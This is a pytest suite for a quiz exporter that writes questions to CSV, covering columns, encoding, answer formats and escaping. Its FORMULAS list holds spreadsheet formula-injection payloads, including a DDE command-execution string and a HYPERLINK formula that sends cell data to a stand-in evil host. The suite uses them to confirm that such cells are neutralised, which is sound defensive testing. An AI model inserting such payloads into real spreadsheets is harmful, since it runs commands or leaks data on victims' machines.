"""One row a question: it opens in a spreadsheet, with nothing changed and nothing that runs."""

import csv
import io

import pytest

from schemas.questions import Matching, MultipleChoice, Numeric, Pair, Question
from schemas.states import QuestionType
from service.exports import csv_file
from service.exports.csv_file import COLUMNS, OPTIONS_MAX
from tests.service.exports.contents import one_of_each, question
from tests.web import samples

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1)',
]


def rows(*questions: Question) -> list[dict[str, str]]:
    written = csv_file.write(samples.quiz(), questions)
    return list(csv.DictReader(io.StringIO(written.decode("utf-8-sig"), newline="")))


def test_the_columns_are_always_the_same() -> None:
    written = csv_file.write(samples.quiz(), [])
    assert written.decode("utf-8-sig") == ",".join(COLUMNS) + "\r\n"


def test_the_file_tells_spreadsheets_that_it_is_utf_8() -> None:
    assert csv_file.write(samples.quiz(), []).startswith(b"\xef\xbb\xbf")


def test_every_type_is_a_row_with_its_question_and_answer() -> None:
    found = rows(*one_of_each())
    assert [(row["question_type"], row["question"], row["answer"]) for row in found] == [
        ("multiple_choice", "Which is blue?", "Sky"),
        ("multiple_response", "Which are wet?", "Rain | Dew"),
        ("true_false", 'It is "so".', "false"),
        ("fill_in_blank", "Roots take up ____.", "water | H2O"),
        ("short_answer", "What do\nroots take up?", "water; salt"),
        ("matching", "Match the colours.", "sky = blue | snow = white | Gras = grün"),
        ("numeric", "How many metres?", "'-2.5 ± 0.25"),
        ("flashcard", "水", "water 💧"),
        ("vocabulary", "stoma", "a pore, small"),
    ]
    assert [row["id"] for row in found] == [str(one.id) for one in one_of_each()]


def test_options_stand_in_columns_of_their_own() -> None:
    [row] = rows(question(1, QuestionType.MULTIPLE_CHOICE))
    assert [row[f"option_{number}"] for number in range(1, OPTIONS_MAX + 1)] == [
        "Gras, grün",
        "Sky",
        "Snow",
        "",
        "",
        "",
    ]
    assert row["option_2"] == row["answer"]


def test_as_many_options_as_there_may_be_fit() -> None:
    content = MultipleChoice(stem="Which?", options=tuple("abcdef"), answer=5)
    [row] = rows(question(1, QuestionType.MULTIPLE_CHOICE, content=content))
    assert [row[f"option_{number}"] for number in range(1, 7)] == list("abcdef")


def test_what_belongs_to_no_left_stands_among_the_options() -> None:
    [row] = rows(question(1, QuestionType.MATCHING))
    assert [row[f"option_{number}"] for number in (1, 2)] == ["red", ""]


def test_as_many_extra_rights_as_there_may_be_fit() -> None:
    pairs = tuple(Pair(left=letter, right=letter.upper()) for letter in "abc")
    content = Matching(stem="Match.", pairs=pairs, extra_rights=tuple("wxyz"))
    [row] = rows(question(1, QuestionType.MATCHING, content=content))
    assert [row[f"option_{number}"] for number in range(1, 7)] == [*"wxyz", "", ""]


@pytest.mark.parametrize(
    ("answer", "tolerance", "written"),
    [(5, 0, "5"), (0.83, 0, "0.83"), (1000, 50, "1000 ± 50"), (3.4, 0.05, "3.4 ± 0.05")],
)
def test_a_number_is_written_as_people_write_it(answer: float, tolerance: float, written: str) -> None:
    content = Numeric(stem="How many?", answer=answer, tolerance=tolerance)
    [row] = rows(question(1, QuestionType.NUMERIC, content=content))
    assert row["answer"] == written


def test_what_a_reviewer_needs_goes_along() -> None:
    [row] = rows(question(1, QuestionType.TRUE_FALSE, text="proof"))
    assert (row["module"], row["difficulty"], row["explanation"], row["evidence"], row["review"]) == (
        "proof",
        "easy",
        "proof",
        "proof",
        "unreviewed",
    )


def test_nothing_of_a_term_or_its_labels_is_lost() -> None:
    asked = question(1, QuestionType.VOCABULARY).model_copy(update={"tags": ("leaves", "two words")})
    [row] = rows(asked)
    assert row["example"] == "A stoma opens."
    assert (row["cognitive_level"], row["tags"]) == ("remember", "leaves | two words")


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_becomes_a_formula(formula: str) -> None:
    content = MultipleChoice(stem=formula, options=(formula, "b", "c"), answer=0)
    [row] = rows(question(1, QuestionType.MULTIPLE_CHOICE, content=content, text=formula))
    for name in ("question", "answer", "option_1", "module", "explanation", "evidence", "tags"):
        assert row[name] == f"'{formula}", name


@pytest.mark.parametrize("text", ["a=b", "'quoted'", "1+1=2", "a,b;c\td", 'say "so"', "two\nlines", "two\r\nlines", ""])
def test_other_text_is_kept_as_it_is(text: str) -> None:
    [row] = rows(question(1, QuestionType.TRUE_FALSE, text=text))
    assert row["explanation"] == text


def test_the_same_questions_give_the_same_bytes() -> None:
    assert csv_file.write(samples.quiz(), one_of_each()) == csv_file.write(samples.quiz(), one_of_each())
